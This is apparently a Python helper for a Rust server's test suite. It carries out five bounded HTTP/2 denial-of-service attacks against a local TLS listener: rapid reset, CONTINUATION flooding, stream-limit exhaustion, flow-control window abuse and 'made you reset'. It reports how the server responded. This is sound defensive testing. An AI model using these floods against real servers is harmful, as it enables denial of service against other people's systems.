#!/usr/bin/python3
"""HTTP/2 abuse against a TLS listener, for tests/tests/external_checks.rs.

Usage: h2_abuse.py ATTACK PORT [--seconds S]

Speaks HTTP/2 with the `h2` package's stack: `h2` itself for well-formed exchanges,
`hyperframe` (its frame layer) and `hpack` (its header compression) for the frames a
well-behaved client never sends. Every attack is bounded in frames, bytes and time (the
deadline is checked between batches), and prints one JSON line that says what the server
did: how many streams it reset (by error code), whether and why it sent GOAWAY, whether it
closed the connection.

Attacks:
  rapid_reset     HEADERS then RST_STREAM(CANCEL) at once, stream after stream (CVE-2023-44487)
  continuation    HEADERS without END_HEADERS, then CONTINUATION frames without end (CVE-2024-27316 class)
  stream_limit    far more open streams than SETTINGS_MAX_CONCURRENT_STREAMS, bodies never sent
  window          initial window 0 with many responses waiting; then a zero and an overflowing WINDOW_UPDATE
  made_you_reset  frames that make the server reset streams it already dispatched (CVE-2025-8671):
                  DATA after END_STREAM, WINDOW_UPDATE of 0 on a stream
"""

import argparse
import json
import select
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
RST_STREAM, SETTINGS, PING, GOAWAY = 3, 4, 6, 7
ERROR_NAMES = {
    0: "NO_ERROR",
    1: "PROTOCOL_ERROR",
    2: "INTERNAL_ERROR",
    3: "FLOW_CONTROL_ERROR",
    5: "STREAM_CLOSED",
    7: "REFUSED_STREAM",
    8: "CANCEL",
    11: "ENHANCE_YOUR_CALM",
}


def tls_socket(port):
    ctx = ssl.create_default_context()
    # The listener's certificate is the test's own; what is under test is HTTP/2.
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port), timeout=5)
    sock = ctx.wrap_socket(raw, server_hostname="localhost")
    if sock.selected_alpn_protocol() != "h2":
        raise SystemExit("the server did not choose h2")
    return sock


class Raw:
    """A client connection that writes frames as given and tallies what the server sends."""

    def __init__(self, port, settings=None):
        self.port = port
        self.sock = tls_socket(port)
        self.sock.setblocking(False)
        self.enc = Encoder()
        self.inbuf = b""
        self.closed = False
        self.goaway = None
        self.resets = {}
        self.frames_in = 0
        self.bytes_out = 0
        self.send(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())

    def block(self, path, method="GET", extra=()):
        headers = [
            (":method", method),
            (":scheme", "https"),
            (":authority", "localhost:%d" % self.port),
            (":path", path),
        ]
        return self.enc.encode(headers + list(extra), huffman=False)

    def headers(self, sid, path, method="GET", end_stream=True, end_headers=True, extra=()):
        """HEADERS (split into CONTINUATION frames past 16 KB, the default frame size)."""
        block = self.block(path, method, extra)
        first, rest = block[:16000], block[16000:]
        f = HeadersFrame(sid, data=first)
        if end_stream:
            f.flags.add("END_STREAM")
        frames = [f]
        while rest:
            frames.append(ContinuationFrame(sid, data=rest[:16000]))
            rest = rest[16000:]
        if end_headers:
            frames[-1].flags.add("END_HEADERS")
        return b"".join(fr.serialize() for fr in frames)

    def send(self, data):
        """Writes all of `data` unless the server closed; waits for the socket at most 5 s."""
        view = memoryview(data)
        deadline = time.monotonic() + 5
        while view and not self.closed:
            try:
                n = self.sock.send(view)
                view = view[n:]
                self.bytes_out += n
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                self.pump(0.01)
                if time.monotonic() > deadline:
                    return False
            except (OSError, ssl.SSLError):
                # The server closed; what it said before (GOAWAY) may still be readable.
                self.pump(0.2)
                self.closed = True
        return not self.closed

    def pump(self, wait):
        """Reads what the server sent within `wait` seconds, answering SETTINGS."""
        end = time.monotonic() + wait
        while not self.closed:
            left = max(0.0, end - time.monotonic())
            if self.sock.pending() == 0:
                r, _, _ = select.select([self.sock], [], [], left)
                if not r:
                    return
            try:
                chunk = self.sock.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                if time.monotonic() >= end:
                    return
                continue
            except (OSError, ssl.SSLError):
                self.closed = True
                return
            if not chunk:
                self.closed = True
                return
            self.inbuf += chunk
            self.parse()

    def parse(self):
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[0:3], "big")
            if len(self.inbuf) < 9 + length:
                return
            ftype, flags = self.inbuf[3], self.inbuf[4]
            sid = int.from_bytes(self.inbuf[5:9], "big") & 0x7FFFFFFF
            payload = self.inbuf[9 : 9 + length]
            self.inbuf = self.inbuf[9 + length :]
            self.frames_in += 1
            if ftype == SETTINGS and not flags & 1:
                ack = SettingsFrame(0)
                ack.flags.add("ACK")
                self.send(ack.serialize())
            elif ftype == RST_STREAM and len(payload) >= 4:
                code = ERROR_NAMES.get(struct.unpack(">I", payload[:4])[0], "OTHER")
                self.resets[code] = self.resets.get(code, 0) + 1
            elif ftype == GOAWAY and len(payload) >= 8:
                code = struct.unpack(">I", payload[4:8])[0]
                self.goaway = ERROR_NAMES.get(code, str(code))

    def wait_closed(self, seconds):
        end = time.monotonic() + seconds
        while not self.closed and time.monotonic() < end:
            self.pump(0.05)

    def summary(self, **extra):
        out = {
            "goaway": self.goaway,
            "closed": self.closed,
            "resets": self.resets,
            "bytes_out": self.bytes_out,
        }
        out.update(extra)
        return out

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def rapid_reset(port, deadline):
    """Well-formed frames only, so `h2` itself drives it: open, cancel, repeat."""
    sock = tls_socket(port)
    sock.settimeout(0.0)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    opened, goaway, closed = 0, None, False
    headers = [
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", "localhost:%d" % port),
        (":path", "/?delay_ms=2000"),
    ]
    # A GOAWAY ends the attack: h2 refuses to open streams after it (the server may keep
    # the connection open a little to read what was sent, so no error need come first).
    while opened < 50_000 and time.monotonic() < deadline and not closed and goaway is None:
        for _ in range(100):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, headers, end_stream=True)
            conn.reset_stream(sid, error_code=8)
            opened += 1
        try:
            sock.sendall(conn.data_to_send())
        except (ssl.SSLWantWriteError, BlockingIOError):
            pass
        except (OSError, ssl.SSLError):
            closed = True
        try:
            data = sock.recv(65536)
            if not data:
                closed = True
            for ev in conn.receive_data(data):
                if isinstance(ev, h2.events.ConnectionTerminated):
                    goaway = ERROR_NAMES.get(int(ev.error_code), str(ev.error_code))
        except (ssl.SSLWantReadError, BlockingIOError):
            pass
        except (OSError, ssl.SSLError):
            closed = True
        except h2.exceptions.ProtocolError:
            closed = True
    sock.close()
    return {"goaway": goaway, "closed": closed, "streams": opened}


def continuation(port, deadline):
    c = Raw(port)
    c.send(c.headers(1, "/", end_headers=False, end_stream=True))
    frames = 0
    # Each fragment is valid HPACK: new literal headers the server must decode and count.
    # One frame at a time, reading in between, so the server's GOAWAY is seen.
    while frames < 20_000 and not c.closed and time.monotonic() < deadline:
        fragment = c.enc.encode([("x-flood-%d" % frames, "a" * 4000)], huffman=False)
        c.send(ContinuationFrame(1, data=fragment).serialize())
        frames += 1
        c.pump(0.001)
    c.wait_closed(max(0.0, min(3.0, deadline - time.monotonic())))
    c.close()
    return c.summary(frames=frames)


def stream_limit(port, deadline):
    conns = [Raw(port) for _ in range(4)]
    for c in conns:
        c.pump(0.2)
    streams = 0
    for c in conns:
        batch = b""
        for i in range(1000):
            sid = 1 + 2 * i
            batch += c.headers(
                sid,
                "/upload",
                method="POST",
                end_stream=False,
                extra=[("content-length", "100000")],
            )
            streams += 1
        c.send(batch)
        c.pump(0)
    hold_until = min(deadline, time.monotonic() + 4)
    while time.monotonic() < hold_until:
        for c in conns:
            c.pump(0.05)
    resets, goaways = {}, []
    for c in conns:
        for k, v in c.resets.items():
            resets[k] = resets.get(k, 0) + v
        goaways.append(c.goaway)
        c.close()
    return {"streams": streams, "resets": resets, "goaways": goaways}


def window(port, deadline):
    # Responses (~28 KB each: the echo of the request's headers) the client will not accept
    # a byte of: the server must not buffer them all (8 x 120 x 28 KB = 27 MB if it did).
    pad = "x" * 4000
    conns = [Raw(port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}) for _ in range(8)]
    for c in conns:
        c.pump(0.05)
        for i in range(120):
            extra = [("x-pad-%d" % j, pad) for j in range(7)]
            c.send(c.headers(1 + 2 * i, "/big?n=%d" % i, extra=extra))
            c.pump(0)
    hold_until = min(deadline, time.monotonic() + 3)
    while time.monotonic() < hold_until:
        for c in conns:
            c.pump(0.02)
    held = {
        "open": sum(1 for c in conns if not c.closed),
        "goaways": [c.goaway for c in conns if c.goaway],
    }
    for c in conns:
        c.close()
    # A zero increment is a connection error; so is a window over 2^31-1.
    zero = Raw(port)
    zero.send(WindowUpdateFrame(0, window_increment=0).serialize())
    zero.wait_closed(3)
    zero.close()
    over = Raw(port)
    over.send(
        WindowUpdateFrame(0, window_increment=0x7FFFFFFF).serialize()
        + WindowUpdateFrame(0, window_increment=0x7FFFFFFF).serialize()
    )
    over.wait_closed(3)
    over.close()
    return {
        "held": held,
        "zero_increment": zero.summary(),
        "overflow": over.summary(),
    }


def made_you_reset(port, deadline):
    c = Raw(port)
    c.pump(0.2)
    sid, streams = 1, 0
    while streams < 20_000 and not c.closed and time.monotonic() < deadline:
        batch = b""
        for _ in range(50):
            # Half-closed (remote) after END_STREAM: DATA on it is a stream error the
            # server answers with RST_STREAM(STREAM_CLOSED) ...
            batch += c.headers(sid, "/?delay_ms=2000", end_stream=True)
            batch += DataFrame(sid, data=b"x").serialize()
            sid += 2
            # ... and a zero WINDOW_UPDATE on an open stream with RST_STREAM(PROTOCOL_ERROR).
            batch += c.headers(sid, "/?delay_ms=2000", method="POST", end_stream=False,
                               extra=[("content-length", "1")])
            batch += WindowUpdateFrame(sid, window_increment=0).serialize()
            sid += 2
            streams += 2
        c.send(batch)
        c.pump(0)
    c.wait_closed(max(0.0, min(3.0, deadline - time.monotonic())))
    c.close()
    return c.summary(streams=streams)


ATTACKS = {
    "rapid_reset": rapid_reset,
    "continuation": continuation,
    "stream_limit": stream_limit,
    "window": window,
    "made_you_reset": made_you_reset,
}


def main():
    p = argparse.ArgumentParser()
    p.add_argument("attack", choices=sorted(ATTACKS))
    p.add_argument("port", type=int)
    p.add_argument("--seconds", type=float, default=8.0)
    a = p.parse_args()
    started = time.monotonic()
    result = ATTACKS[a.attack](a.port, started + a.seconds)
    result["attack"] = a.attack
    result["elapsed"] = round(time.monotonic() - started, 2)
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    sys.exit(main())
